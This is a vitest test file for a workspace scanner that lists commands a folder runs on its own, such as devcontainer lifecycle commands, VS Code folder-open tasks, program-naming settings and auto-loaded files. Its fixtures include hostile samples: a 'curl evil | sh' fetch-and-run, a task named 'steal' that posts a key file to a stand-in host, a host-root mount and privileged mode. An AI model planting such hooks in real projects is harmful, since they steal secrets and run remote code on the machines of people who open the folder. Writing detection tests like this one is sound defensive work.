import { expect, it } from "vitest";
import { findRuns } from "../../../src/environment/runs.ts";

function folder(files: Readonly<Record<string, string>>) {
  return { paths: Object.keys(files), read: async (path: string) => files[path] };
}

async function runsIn(files: Readonly<Record<string, string>>) {
  return (await findRuns(folder(files))).map(({ kind, path, name, command, offered }) => [
    kind,
    path,
    name,
    command,
    offered,
  ]);
}

it("R29: commands of a devcontainer.json are listed, and preparing ones offered", async () => {
  const path = ".devcontainer/devcontainer.json";
  const text = `{ // comments and trailing commas are usual
    "image": "x",
    "initializeCommand": "curl evil | sh",
    "onCreateCommand": ["touch", "it's here"],
    "postCreateCommand": { "a": "pip install -r r.txt", "b": ["npm", "ci"] },
    "postStartCommand": "serve",
    "mounts": ["source=/,target=/host,type=bind"],
    "privileged": true,
  }`;
  expect(await runsIn({ [path]: text })).toEqual([
    ["lifecycle", path, "initializeCommand", "curl evil | sh", false],
    ["lifecycle", path, "onCreateCommand", "touch 'it'\\''s here'", true],
    ["lifecycle", path, "postCreateCommand: a", "pip install -r r.txt", true],
    ["lifecycle", path, "postCreateCommand: b", "npm ci", true],
    ["lifecycle", path, "postStartCommand", "serve", false],
    ["lifecycle", path, "mounts", '["source=/,target=/host,type=bind"]', false],
    ["lifecycle", path, "privileged", "true", false],
  ]);
});

it("R29: a task that runs on opening is listed with its command, others are not", async () => {
  const tasks = {
    tasks: [
      { label: "steal", type: "shell", command: "curl", args: ["-d@key", "evil"], runOptions: { runOn: "folderOpen" } },
      { label: "build", command: "make" },
    ],
  };
  const expected = ["task", ".vscode/tasks.json", "steal", "curl -d@key evil", false];
  expect(await runsIn({ ".vscode/tasks.json": JSON.stringify(tasks) })).toEqual([expected]);
  const [first] = await runsIn({ "x.code-workspace": JSON.stringify({ tasks }) });
  expect(first).toEqual(["task", "x.code-workspace", "steal", "curl -d@key evil", false]);
});

it("R29: settings that name programs are listed, others are not", async () => {
  const settings = {
    "python.defaultInterpreterPath": "./evil",
    "terminal.integrated.profiles.linux": { x: { path: "/tmp/x" } },
    "editor.fontSize": 12,
    "[python]": { "a.command": "b" },
  };
  expect(await runsIn({ ".vscode/settings.json": JSON.stringify(settings) })).toEqual([
    ["setting", ".vscode/settings.json", "python.defaultInterpreterPath", "./evil", false],
    ["terminal", ".vscode/settings.json", "terminal.integrated.profiles.linux", '{"x":{"path":"/tmp/x"}}', false],
    ["setting", ".vscode/settings.json", "a.command", "b", false],
  ]);
});

it("R29: files that programs load by themselves are listed, wherever they are", async () => {
  const files = { "a/.envrc": "", "conftest.py": "", "x.pth": "", "README.md": "", "main.py": "" };
  expect((await runsIn(files)).map(([kind, path]) => [kind, path])).toEqual([
    ["file", "a/.envrc"],
    ["file", "conftest.py"],
    ["file", "x.pth"],
  ]);
});

it("R29: what cannot be read is listed as a whole, in any case of its name", async () => {
  const files = {
    ".vscode/tasks.json": "{",
    ".VSCODE/settings.json": '{"git.path": "x"}',
    ".devcontainer.json": "[1]",
  };
  const found = await runsIn(files);
  expect(found).toContainEqual(["file", ".vscode/tasks.json", "", "", false]);
  expect(found).toContainEqual(["file", ".devcontainer.json", "", "", false]);
  expect(found).toContainEqual(["setting", ".VSCODE/settings.json", "git.path", "x", false]);
});

it("R29: a command too long to be shown is not offered", async () => {
  const text = JSON.stringify({ image: "x", postCreateCommand: "x".repeat(30_000) });
  const [run] = await findRuns(folder({ ".devcontainer.json": text }));
  expect(run?.offered).toBe(false);
  expect(run?.command).toHaveLength(20_000);
});
